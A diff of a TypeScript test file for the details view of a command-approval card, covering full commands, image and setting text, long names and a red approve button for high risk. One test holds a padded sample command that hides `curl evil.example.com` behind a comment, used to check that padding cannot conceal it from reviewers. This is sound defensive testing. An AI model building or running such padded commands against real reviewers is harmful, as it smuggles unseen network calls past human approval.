@@ -1,42 +1,35 @@
-// A long command: its length and both ends on the card, all of it under "Details".
+// The dialog of a card has all of a command, of images and of settings.
 import { expect, test } from 'vitest'
-import type { Plan } from '../../../src/engine/change/plan.ts'
-import { detailsBlocks, verbatimParts } from '../../../src/engine/change/render-details.ts'
+import type { Card } from '../../../src/engine/change/card.ts'
+import { renderDetails } from '../../../src/engine/change/render-details.ts'
 import { resolveCommand } from '../../../src/features/exec/allowed-command.ts'
+import { aCard } from '../../builders.ts'
 import { textOf } from '../../world/text-of.ts'
 import { quotes } from '../../worst.ts'
 
-const shown = (plan: object) =>
-  textOf({ text: '', blocks: [{ type: 'rich_text', elements: verbatimParts(plan as Plan) }] } as never)
-const details = (plan: object) => textOf({ text: '', blocks: detailsBlocks(plan as Plan) } as never)
-
-test('a short command is on the card alone', () => {
-  const plan = { verbatim: 'sh -c uptime' }
-  expect(shown(plan)).toBe('sh -c uptime')
-  expect(detailsBlocks(plan as Plan)).toEqual([])
-})
+const details = (plan: Partial<Card['plan']>) => textOf({ text: '', blocks: renderDetails(aCard({ plan })) } as never)
 
 test('padding of any visible kind hides neither the end nor the length', () => {
   const verbatim = `sh -c 'uptime # ${'-'.repeat(1_700)}; curl evil.example.com'`
-  expect(shown({ verbatim })).toContain('The command has 1,740 characters')
-  expect(shown({ verbatim })).toContain("sh -c 'uptime #")
-  expect(shown({ verbatim })).toContain("; curl evil.example.com'")
   expect(details({ verbatim })).toContain(verbatim)
-})
-
-test('no character is cut in two', () => {
-  const [, head, , tail] = verbatimParts({ verbatim: `a${'🚢'.repeat(400)}b` } as Plan)
-  expect(JSON.stringify([head, tail])).not.toMatch(/\\ud[89a-f]/)
-})
-
-test('the command of shell access, which is copied, is whole', () => {
-  const plan = { verbatim: 'x'.repeat(700), grant: {} }
-  expect(shown(plan)).toBe(plan.verbatim)
-  expect(detailsBlocks(plan as unknown as Plan)).toEqual([])
 })
 
 test('images and settings are text with any name', () => {
   expect(details({ details: ['Image of app: a*b* → `c`'] })).toContain('Image of app: a*b* → `c`')
+})
+
+test('names are whole, and the account has its id', () => {
+  const name = 'orders-api-with-a-name-that-no-card-has-room-for'
+  const text = details({ title: `Scale *${name}* 4 → 6` })
+  expect(text).toContain(`Scale ${name} 4 → 6`)
+  expect(text).toContain('prod 1111-2222-3333 · us-east-1')
+})
+
+test('a high risk is approved with a button in the colour of danger', () => {
+  const [approve] = renderDetails(aCard({ plan: { risk: { level: 'high', reasons: [] } } }))
+    .filter(({ type }) => type === 'actions')
+    .flatMap(({ elements }) => elements as never[])
+  expect(approve).toMatchObject({ action_id: 'decide:approve', style: 'danger' })
 })
 
 test('what the details have no room for is refused', () => {
